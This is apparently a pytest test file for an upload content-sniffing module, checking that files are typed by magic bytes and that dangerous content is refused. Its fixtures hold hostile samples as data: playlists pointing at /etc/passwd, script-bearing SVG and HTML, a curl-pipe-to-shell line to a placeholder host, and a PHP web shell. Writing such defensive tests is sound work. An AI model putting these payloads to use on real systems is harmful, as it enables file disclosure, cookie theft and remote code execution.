"""Typing evidence by content (RELIABILITY 17): real files in, stable verdicts out."""

from __future__ import annotations

import gzip
import io
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from server.media.sniff import SNIFF_BYTES, MediaRejected, Sniffed, sniff
from tests.media.media_factories import PhotoFile, photograph

HLS_PLAYLIST = (
    b"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n"
    b"#EXTINF:10.0,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
)
FFCONCAT = b"ffconcat version 1.0\nfile '/etc/passwd'\nfile 'http://example.invalid/a.wav'\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9"/></svg>'
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>"


def rejection(head: bytes, kind: str | None = None, **kwargs: str) -> MediaRejected:
    with pytest.raises(MediaRejected) as caught:
        sniff(head, kind, kwargs.pop("filename", None), **kwargs)
    return caught.value


def image_bytes(fmt: str) -> bytes:
    out = io.BytesIO()
    photograph(64, 48, seed=9).save(out, fmt)
    return out.getvalue()


def head_of(path: Path) -> bytes:
    with path.open("rb") as handle:
        return handle.read(SNIFF_BYTES)


# --- RELIABILITY 17: type by magic bytes, not by name --------------------------------------


def test_rel17_png_named_jpg_is_stored_as_png() -> None:
    sniffed = sniff(image_bytes("PNG"), "photo", "IMG_2040.jpg")
    assert sniffed == Sniffed("image/png", "photo", "png")


def test_rel17_png_named_jpg_with_sibling_image_mime_is_still_png() -> None:
    # Browsers set File.type from the name, so image/jpeg on PNG bytes is not a lie.
    sniffed = sniff(image_bytes("PNG"), "photo", "IMG_2040.jpg", declared_mime="image/jpeg")
    assert sniffed.mime == "image/png"


def test_rel17_png_with_contradicting_declared_mime_is_a_mismatch() -> None:
    error = rejection(image_bytes("PNG"), None, filename="a.jpg", declared_mime="audio/mp4")
    assert error.code == "media.type_mismatch"
    assert error.field == "file"


@pytest.mark.parametrize("kind", [None, "photo", "note"])
def test_rel17_html_named_jpg_is_forbidden(kind: str | None) -> None:
    assert rejection(HTML, kind, filename="receipt.jpg").code == "media.type_forbidden"


@pytest.mark.parametrize(
    "markup",
    [
        SVG,
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>',
        b"\xef\xbb\xbf  \n<svg><script>alert(1)</script></svg>",
        b"<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN'><svg/>",
    ],
)
def test_rel17_svg_named_jpg_is_forbidden(markup: bytes) -> None:
    assert rejection(markup, "photo", filename="logo.jpg").code == "media.type_forbidden"


@pytest.mark.parametrize("kind", [None, "audio"])
def test_rel17_hls_playlist_named_m4a_is_forbidden(kind: str | None) -> None:
    # Forbidden wins over mismatch: the content is dangerous whatever was declared.
    assert rejection(HLS_PLAYLIST, kind, filename="call.m4a").code == "media.type_forbidden"


@pytest.mark.parametrize("kind", [None, "audio"])
def test_rel17_ffconcat_named_m4a_is_forbidden(kind: str | None) -> None:
    assert rejection(FFCONCAT, kind, filename="call.m4a").code == "media.type_forbidden"


def test_rel17_playlist_behind_an_id3_tag_is_forbidden() -> None:
    # Decoders skip ID3 and probe what follows, so the disguise must not work.
    tag = b"ID3\x04\x00\x00\x00\x00\x00\x00"
    assert rejection(tag + HLS_PLAYLIST, "audio").code == "media.type_forbidden"


def test_rel17_png_sent_as_audio_is_a_mismatch(media_bytes: Callable[[str], bytes]) -> None:
    assert rejection(image_bytes("PNG"), "audio", filename="call.m4a").code == (
        "media.type_mismatch"
    )
    assert rejection(media_bytes("m4a"), "photo").code == "media.type_mismatch"


def test_rel17_name_never_changes_the_verdict(media_bytes: Callable[[str], bytes]) -> None:
    content = media_bytes("flac")
    verdicts = {sniff(content, None, name) for name in ("a.flac", "a.jpg", "../x.exe", None)}
    assert verdicts == {Sniffed("audio/flac", "audio", "flac")}


# --- formats Fieldbook accepts --------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "expected"),
    [
        ("JPEG", Sniffed("image/jpeg", "photo", "jpg")),
        ("PNG", Sniffed("image/png", "photo", "png")),
        ("WEBP", Sniffed("image/webp", "photo", "webp")),
        ("HEIF", Sniffed("image/heic", "photo", "heic")),
        ("PDF", Sniffed("application/pdf", "document", "pdf")),
    ],
)
def test_images_and_pdf_are_typed_by_content(fmt: str, expected: Sniffed) -> None:
    assert sniff(image_bytes(fmt), None, None) == expected


def test_screenshot_kind_keeps_the_image_type() -> None:
    assert sniff(image_bytes("PNG"), "screenshot", None) == Sniffed(
        "image/png", "screenshot", "png"
    )


def test_fixture_photos_sniff_from_their_heads(
    jpeg_12mp: PhotoFile, heic_photo: PhotoFile, webp_photo: PhotoFile
) -> None:
    assert sniff(head_of(jpeg_12mp.path), "photo", None).mime == "image/jpeg"
    assert sniff(head_of(heic_photo.path), "photo", None).mime == "image/heic"
    assert sniff(head_of(webp_photo.path), "photo", None).mime == "image/webp"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("mp3", Sniffed("audio/mpeg", "audio", "mp3")),
        ("aac", Sniffed("audio/aac", "audio", "aac")),
        ("flac", Sniffed("audio/flac", "audio", "flac")),
        ("wav", Sniffed("audio/wav", "audio", "wav")),
        ("opus", Sniffed("audio/ogg", "audio", "opus")),
        ("amr", Sniffed("audio/amr", "audio", "amr")),
        ("m4a", Sniffed("audio/mp4", "audio", "m4a")),
        ("mp4", Sniffed("video/mp4", "video", "mp4")),
        ("mov", Sniffed("video/quicktime", "video", "mov")),
        ("3gp", Sniffed("video/3gpp", "video", "3gp")),
        ("webm", Sniffed("video/webm", "video", "webm")),
        ("mkv", Sniffed("video/x-matroska", "video", "mkv")),
    ],
)
def test_audio_and_video_are_typed_by_content(
    media_bytes: Callable[[str], bytes], name: str, expected: Sniffed
) -> None:
    assert sniff(media_bytes(name), None, None) == expected


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("weba", Sniffed("audio/webm", "audio", "webm")),
        ("mp4", Sniffed("audio/mp4", "audio", "m4a")),
        ("mov", Sniffed("audio/mp4", "audio", "m4a")),
    ],
)
def test_ambiguous_containers_follow_the_declared_kind(
    media_bytes: Callable[[str], bytes], name: str, expected: Sniffed
) -> None:
    assert sniff(media_bytes(name), "audio", None) == expected


def test_ambiguous_container_follows_declared_audio_mime(
    media_bytes: Callable[[str], bytes],
) -> None:
    assert sniff(media_bytes("weba"), None, None, declared_mime="audio/webm").kind == "audio"


def test_audio_only_brand_cannot_be_video(media_bytes: Callable[[str], bytes]) -> None:
    assert rejection(media_bytes("m4a"), "video").code == "media.type_mismatch"
    assert rejection(media_bytes("mp3"), "video").code == "media.type_mismatch"


def test_heif_brand_in_ftyp_is_an_image() -> None:
    head = b"\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00mif1miaf" + b"\x00" * 16
    assert sniff(head, None, None) == Sniffed("image/heif", "photo", "heif")


def test_avif_is_not_taken_for_heif() -> None:
    head = b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + b"\x00" * 16
    assert rejection(head).code == "media.type_unknown"


def test_markdown_note_is_a_note() -> None:
    note = "# Store visit\n\nThe clerk said «wait» — 10 min queue. <b>not</b> a page\n".encode()
    assert sniff(note, "note", "notes.md") == Sniffed("text/markdown", "note", "md")


def test_note_cut_inside_a_multibyte_character_is_still_a_note() -> None:
    note = ("é" * 100).encode()
    assert sniff(note[:101], None, None).kind == "note"


def test_text_sent_as_photo_is_a_mismatch() -> None:
    assert rejection(b"just words", "photo").code == "media.type_mismatch"


# --- refusals -------------------------------------------------------------------------------


def archive(kind: str) -> bytes:
    out = io.BytesIO()
    if kind == "zip":
        with zipfile.ZipFile(out, "w") as bundle:
            bundle.writestr("word/document.xml", "<w:document/>")
    elif kind == "tar":
        with tarfile.open(fileobj=out, mode="w") as bundle:
            info = tarfile.TarInfo("notes.txt")
            info.size = 5
            bundle.addfile(info, io.BytesIO(b"hello"))
    else:
        out.write(gzip.compress(b"<svg/>"))
    return out.getvalue()


@pytest.mark.parametrize("kind", ["zip", "tar", "gzip"])
def test_archives_are_forbidden(kind: str) -> None:
    assert rejection(archive(kind), "document").code == "media.type_forbidden"


@pytest.mark.parametrize(
    "head",
    [
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00",
        b"#!/bin/sh\ncurl http://example.invalid | sh\n",
        b"<?php system($_GET['c']); ?>",
        b"\x00asm\x01\x00\x00\x00",
    ],
)
def test_executables_and_scripts_are_forbidden(head: bytes) -> None:
    assert rejection(head).code == "media.type_forbidden"


def test_the_running_interpreter_binary_is_forbidden() -> None:
    head = Path(sys.executable).resolve().read_bytes()[:SNIFF_BYTES]
    assert rejection(head, "document").code == "media.type_forbidden"


@pytest.mark.parametrize(
    "head",
    [
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00",
        b"\x00\x00\x00\x01\x02\x03\xfe\xff binary",
        b"\xff\xfe\xfd\xfc not utf-8",
        b"RIFF\x24\x00\x00\x00AVI LIST",
    ],
)
def test_unrecognised_content_is_unknown(head: bytes) -> None:
    assert rejection(head).code == "media.type_unknown"


def test_gif_made_by_pillow_is_unknown() -> None:
    out = io.BytesIO()
    Image.new("P", (4, 4)).save(out, "GIF")
    assert rejection(out.getvalue(), "photo").code == "media.type_unknown"


def test_empty_file_is_refused_as_empty() -> None:
    assert rejection(b"", "audio").code == "media.empty"


def test_unknown_declared_kind_is_refused_on_the_kind_field() -> None:
    error = rejection(image_bytes("PNG"), "selfie")
    assert (error.code, error.field) == ("media.kind_invalid", "kind")


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_text_is_not_taken_for_mp3(encoding: str) -> None:
    head = "\ufeffhallo, a note in UTF-16".encode(encoding)
    assert rejection(head, "audio").code == "media.type_unknown"
